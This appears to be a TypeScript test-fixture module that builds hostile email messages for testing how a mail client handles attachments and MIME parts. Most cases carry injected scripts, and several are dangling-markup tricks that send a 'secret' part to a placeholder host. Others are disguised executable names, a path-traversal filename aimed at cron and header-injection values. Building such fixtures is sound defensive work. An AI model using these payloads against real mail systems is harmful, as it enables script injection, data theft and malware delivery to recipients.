/** Files and parts: what is opened by its name and type, and what falls into what the part before it left open. */
import type { Family } from './hostile-mail.ts';

/** A file beside a text; the first line is its header, the rest its content. */
function withFile(trick: string): Buffer {
  const [fields = '', ...content] = trick.split('\n\n');
  return Buffer.from(
    [
      'From: Mallory <mallory@evil.test>',
      'To: ada@lab.test',
      'Subject: Files',
      'MIME-Version: 1.0',
      'Content-Type: multipart/mixed; boundary=b',
      '',
      '--b',
      'Content-Type: text/html',
      '',
      '<p>Files</p><img src="cid:file">',
      '--b',
      ...fields.split('\n'),
      'Content-ID: <file>',
      '',
      content.join('\n\n') || 'content',
      '--b--',
      '',
    ].join('\r\n'),
  );
}

const PAGE = '<html><body onload="RUN()"><script>RUN()</script><img src="https://HOST/a.png"></body></html>';
const DRAWING =
  '<svg xmlns="http://www.w3.org/2000/svg" onload="RUN()"><script>RUN()</script><image href="https://HOST/a.png"/></svg>';

const FILES: Family = {
  family: 'files',
  danger: 'is opened or shown by its name, its type or its content',
  build: withFile,
  tricks: [
    ['a page', `Content-Type: text/html; name=a.html\n\n${PAGE}`],
    ['a page in place', `Content-Type: text/html\nContent-Disposition: inline; filename=a.html\n\n${PAGE}`],
    ['a drawing', `Content-Type: image/svg+xml; name=a.svg\nContent-Disposition: inline\n\n${DRAWING}`],
    [
      'a drawing that is called a picture',
      `Content-Type: image/png; name=a.png\nContent-Disposition: inline\n\n${DRAWING}`,
    ],
    ['a page that is called a picture', `Content-Type: image/jpeg; name=a.jpg\nContent-Disposition: inline\n\n${PAGE}`],
    [
      'XML with a style sheet',
      'Content-Type: text/xml; name=a.xml\n\n<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="https://HOST/a.xsl"?><a xmlns="http://www.w3.org/1999/xhtml"><script>RUN()</script></a>',
    ],
    [
      'XHTML',
      `Content-Type: application/xhtml+xml; name=a.xhtml\nContent-Disposition: inline\n\n<html xmlns="http://www.w3.org/1999/xhtml"><script>RUN()</script></html>`,
    ],
    [
      'a web archive',
      'Content-Type: multipart/related; boundary=c; name=a.mhtml\n\n--c\r\nContent-Type: text/html\r\nContent-Location: https://HOST/\r\n\r\n<script>RUN()</script>\r\n--c--',
    ],
    [
      'a PDF that runs and loads',
      'Content-Type: application/pdf; name=a.pdf\n\n%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1);RUN())>>/AA<</O<</S/URI/URI(https://HOST/a)>>>>>>endobj\ntrailer<</Root 1 0 R>>',
    ],
    ['a program', 'Content-Type: application/x-msdownload; name=a.exe\n\nMZ'],
    [
      'two endings',
      'Content-Type: application/octet-stream\nContent-Disposition: attachment; filename="invoice.pdf.exe"\n\nMZ',
    ],
    [
      'an ending behind many spaces',
      `Content-Type: application/octet-stream\nContent-Disposition: attachment; filename="invoice.pdf${' '.repeat(80)}.scr"\n\nMZ`,
    ],
    [
      'a name read backwards',
      "Content-Type: application/octet-stream\nContent-Disposition: attachment; filename*=utf-8''invoice%E2%80%AEfdp.exe\n\nMZ",
    ],
    [
      'a name that is markup',
      "Content-Type: text/plain\nContent-Disposition: attachment; filename*=utf-8''%3Cscript%3ERUN()%3C%2Fscript%3E%22onclick%3D%22.txt\n\na",
    ],
    [
      'a name that is a path',
      'Content-Type: text/plain\nContent-Disposition: attachment; filename="../../../etc/cron.d/a"\n\na',
    ],
    [
      'a name that is a device',
      'Content-Type: text/plain\nContent-Disposition: attachment; filename="C:\\\\con.txt:stream"\n\na',
    ],
    [
      'a name with line breaks',
      "Content-Type: text/plain\nContent-Disposition: attachment; filename*=utf-8''a%0d%0aSet-Cookie:%20b=c%0d%0a%0d%0a<script>RUN()</script>\n\na",
    ],
    ['a type that is markup', 'Content-Type: "text/html<script>RUN()</script>"; name="a"\n\na'],
    [
      'a type with a second header',
      'Content-Type: text/plain; name="a\\"; x=\\"text/html"; charset="<script>RUN()</script>"\n\na',
    ],
    ['a page as octets', `Content-Type: application/octet-stream; name=a.html\nContent-Disposition: inline\n\n${PAGE}`],
    [
      'an invitation',
      'Content-Type: text/calendar; method=REQUEST\n\nBEGIN:VCALENDAR\nBEGIN:VEVENT\nSUMMARY:<script>RUN()</script>\nURL:javascript:RUN()\nATTACH:https://HOST/a\nEND:VEVENT\nEND:VCALENDAR',
    ],
    [
      'a visiting card',
      'Content-Type: text/vcard\n\nBEGIN:VCARD\nFN:<script>RUN()</script>\nURL:javascript:RUN()\nPHOTO;VALUE=uri:https://HOST/a.png\nEND:VCARD',
    ],
    [
      'a message in a message',
      'Content-Type: message/rfc822\n\nSubject: <script>RUN()</script>\r\nContent-Type: text/html\r\n\r\n<script>RUN()</script><img src="https://HOST/a.png">',
    ],
    [
      'a body that is elsewhere',
      'Content-Type: message/external-body; access-type=URL; URL="https://HOST/a"\n\nContent-Type: text/html\r\n\r\n<script>RUN()</script>',
    ],
    ['winmail.dat', 'Content-Type: application/ms-tnef; name=winmail.dat\n\n\x78\x9f\x3e\x22<script>RUN()</script>'],
    [
      'enriched text',
      'Content-Type: text/enriched\nContent-Disposition: inline\n\n<param>https://HOST/a</param><script>RUN()</script>',
    ],
    [
      'rich text',
      'Content-Type: text/rtf\nContent-Disposition: inline\n\n{\\rtf1 {\\field{\\*\\fldinst INCLUDEPICTURE "https://HOST/a.png"}} <script>RUN()</script>}',
    ],
    ['script and style as text', 'Content-Type: text/javascript; name=a.js\nContent-Disposition: inline\n\nRUN()'],
    [
      'a link to a place',
      'Content-Type: application/internet-shortcut; name=a.url\n\n[InternetShortcut]\nURL=https://HOST/a',
    ],
  ],
};

/** Parts of a message, as they are, one after the other. */
function withParts(trick: string): Buffer {
  return Buffer.from(
    [
      'From: Mallory <mallory@evil.test>',
      'To: ada@lab.test',
      'Subject: Parts',
      'MIME-Version: 1.0',
      ...trick.split('\n'),
      '',
    ].join('\r\n'),
  );
}

const PARTS: Family = {
  family: 'parts',
  danger: 'lets one part open what the next one, somebody else’s text, falls into',
  build: withParts,
  tricks: [
    [
      'an address around a secret',
      'Content-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/html\n\n<img src="https://HOST/?\n--b\nContent-Type: text/plain\n\nsecret\n--b\nContent-Type: text/html\n\n">\n--b--',
    ],
    [
      'a style around a secret',
      'Content-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/html\n\n<style>*{display:none}</style><p style="background:url(https://HOST/\n--b\nContent-Type: text/plain\n\nsecret\n--b\nContent-Type: text/html\n\n)">a</p>\n--b--',
    ],
    [
      'a comment around a warning',
      'Content-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/html\n\n<!--\n--b\nContent-Type: text/plain\n\nwarning\n--b\nContent-Type: text/html\n\n--><script>RUN()</script>\n--b--',
    ],
    [
      'a script over two parts',
      'Content-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/html\n\n<scr\n--b\nContent-Type: text/html\n\nipt>RUN()</script><img src=x onerror=RUN()>\n--b--',
    ],
    [
      'a form over two parts',
      'Content-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/html\n\n<form action="https://HOST/a"><textarea name=x>\n--b\nContent-Type: text/plain\n\nsecret\n--b--',
    ],
    [
      'a part encrypted beside one in clear',
      'Content-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/html\n\n<img src="https://HOST/\n--b\nContent-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\nContent-Transfer-Encoding: base64\n\nMIAGCSqGSIb3DQEHA6CAMIACAQA=\n--b\nContent-Type: text/html\n\n">\n--b--',
    ],
    [
      'an alternative that hides',
      'Content-Type: multipart/alternative; boundary=b\n\n--b\nContent-Type: text/plain\n\nPay nothing.\n--b\nContent-Type: text/html\n\n<img src=x onerror=RUN()>Pay at once.\n--b\nContent-Type: text/x-amp-html\n\n<script>RUN()</script>\n--b--',
    ],
    [
      'related by place',
      'Content-Type: multipart/related; boundary=b\n\n--b\nContent-Type: text/html\nContent-Location: https://HOST/\n\n<img src="a.png"><script src="b.js"></script>\n--b\nContent-Type: text/javascript\nContent-Location: https://HOST/b.js\n\nRUN()\n--b--',
    ],
    [
      'related to a page',
      'Content-Type: multipart/related; boundary=b\n\n--b\nContent-Type: text/html\n\n<iframe src="cid:p"></iframe><object data="cid:p"></object><link rel=stylesheet href="cid:s"><img src="cid:p">\n--b\nContent-Type: text/html\nContent-ID: <p>\n\n<script>RUN()</script>\n--b\nContent-Type: text/css\nContent-ID: <s>\n\n*{background:url(https://HOST/a.png)}\n--b--',
    ],
    [
      'a Content-ID that is an attribute',
      'Content-Type: multipart/related; boundary=b\n\n--b\nContent-Type: text/html\n\n<img src=\'cid:x"onerror="RUN()\'>\n--b\nContent-Type: image/png\nContent-ID: <x"onerror="RUN()>\n\nx\n--b--',
    ],
    [
      'a signature over something else',
      'Content-Type: multipart/signed; boundary=b; protocol="application/pgp-signature"\n\n--b\nContent-Type: multipart/mixed; boundary=c\n\n--c\nContent-Type: text/html\n\n<style>.x{display:none}</style><script>RUN()</script>\n--c\nContent-Type: text/html\n\n<p class=x>signed</p>\n--c--\n--b\nContent-Type: application/pgp-signature\n\nx\n--b--',
    ],
    [
      'a digest',
      'Content-Type: multipart/digest; boundary=b\n\n--b\n\nSubject: <script>RUN()</script>\nContent-Type: text/html\n\n<script>RUN()</script>\n--b--',
    ],
    [
      'a report',
      'Content-Type: multipart/report; report-type=delivery-status; boundary=b\n\n--b\nContent-Type: text/html\n\n<script>RUN()</script>\n--b\nContent-Type: message/delivery-status\n\nDiagnostic-Code: smtp; <script>RUN()</script>\n--b--',
    ],
    [
      'a boundary that is markup',
      'Content-Type: multipart/mixed; boundary="<script>RUN()</script>"\n\n--<script>RUN()</script>\nContent-Type: text/html\n\n<img src=x onerror=RUN()>\n--<script>RUN()</script>--',
    ],
    ['no boundary at all', 'Content-Type: multipart/mixed\n\n<script>RUN()</script><img src="https://HOST/a.png">'],
    [
      'a partial message',
      'Content-Type: message/partial; id="a@HOST"; number=1; total=2\n\nContent-Type: text/html\n\n<script>RUN()</script>',
    ],
    [
      'a page in base64 with rubbish',
      'Content-Type: text/html\nContent-Transfer-Encoding: base64\n\nPHNjcm!!lwdD5jYW5hcnko\n****MCk8L3NjcmlwdD4=',
    ],
    [
      'a page in quoted-printable with broken escapes',
      'Content-Type: text/html\nContent-Transfer-Encoding: quoted-printable\n\n=3Cscript=3ERUN()=3C=2Fscript=\n=3E=ZZ=3cimg src=3dx onerror=3dRUN()=3e',
    ],
    [
      'text that says it is a page',
      'Content-Type: text/plain; charset=utf-8\n\n<!doctype html><html><script>RUN()</script></html>',
    ],
    ['a page without a type', 'X-Nothing: a\n\n<html><script>RUN()</script><img src="https://HOST/a.png"></html>'],
  ],
};

export const parts: readonly Family[] = [FILES, PARTS];
